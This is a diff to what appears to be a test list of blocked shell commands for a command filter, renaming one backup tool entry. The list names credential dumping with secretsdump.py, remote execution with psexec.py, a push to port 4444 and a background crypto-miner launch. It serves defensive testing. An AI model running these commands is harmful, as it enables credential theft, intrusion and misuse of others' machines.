@@ -15,7 +15,7 @@ BLOCKED = [
     ("posix", "python3 secretsdump.py test.local/john:password123@10.10.10.1"),
     ("posix", "psexec.py '/Administrator:P@ssw0rd1@127.0.0.1' 'whoami'"),
     ("posix", "mytool push deploy@10.0.0.5"),
-    ("posix", "restic -r rest:http://backup.example/repo snapshots"),
+    ("posix", "rcat -r rest:http://backup.example/repo snapshots"),
     ("posix", "mytool --db postgres://db.corp.local/app"),
     ("posix", "backup-tool --server=10.0.0.1:4444 push"),
     ("posix", "nohup ./rig --url pool.miner.pro:80 --user x &"),
